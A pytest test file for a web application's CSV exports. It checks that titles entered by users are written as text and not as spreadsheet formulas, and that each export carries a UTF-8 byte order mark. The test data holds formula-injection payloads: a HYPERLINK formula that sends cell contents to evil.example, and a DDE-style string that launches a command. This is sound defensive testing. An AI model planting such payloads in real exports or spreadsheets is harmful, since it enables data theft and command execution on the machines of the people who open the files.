"""Issue 11, point 6: CSV formula injection. A title written by a point of contact or an offering
state must reach the secretariat's spreadsheet as text, never as a live formula; every CSV export
goes through the shared writer (core/exports.py), which also marks the file as UTF-8."""

from __future__ import annotations

import csv
import io

import pytest

from committee.work import dashboard
from core.exports import csv_text, restore_cell, safe_cell
from tests.assistance import builders

HYPERLINK = '=HYPERLINK("http://evil.example/x?"&B2,"Open")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode()), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        (CALC, "'" + CALC),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        (-12, -12),
        ("São Tomé and Príncipe", "São Tomé and Príncipe"),
        (None, ""),
    ],
)
def test_a_formula_like_cell_is_written_as_text_and_a_number_stays_a_number(value, written):
    assert safe_cell(value) == written


def test_the_shared_writer_starts_with_a_byte_order_mark():
    assert csv_text([["Côte d’Ivoire", "=1+1"]]) == "\ufeffCôte d’Ivoire,'=1+1\r\n"


def test_a_pocs_formula_title_is_text_in_the_secretariats_request_export(
    client, poc_chn, secretariat
):
    builders.request("CHN", by=poc_chn, title=HYPERLINK)
    client.force_login(secretariat)

    rows = rows_of(client.get("/assistance/requests.csv"))

    assert rows[0][:2] == ["id", "iso3"]
    assert [row[4] for row in rows[1:]] == ["'" + HYPERLINK]


def test_a_public_offers_formula_title_is_text_in_the_public_offer_export(client, expert, iaea):
    builders.offer(by=expert, provider_organization=iaea, title=CALC)

    rows = rows_of(client.get("/assistance/offers.csv"))

    assert [row[2] for row in rows[1:]] == ["'" + CALC]


def test_the_dashboard_csv_goes_through_the_shared_writer(client, secretariat):
    client.force_login(secretariat)
    key = dashboard.all_figures()[0].key

    response = client.get(f"/dashboard/{key}.csv")

    assert response.status_code == 200
    assert response.content.startswith("\ufeff".encode())


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        CALC,
        "+1+cmd",
        "-2+3",
        "\t=1",
        "\r=1",
        "-12.5",
        "'=quoted by the author",
        "''+twice",
        "'-12",
        "'plain quote",
        "São Tomé and Príncipe",
        "",
    ],
)
def test_reading_back_a_written_cell_gives_the_text_exactly(text):
    assert restore_cell(safe_cell(text)) == text
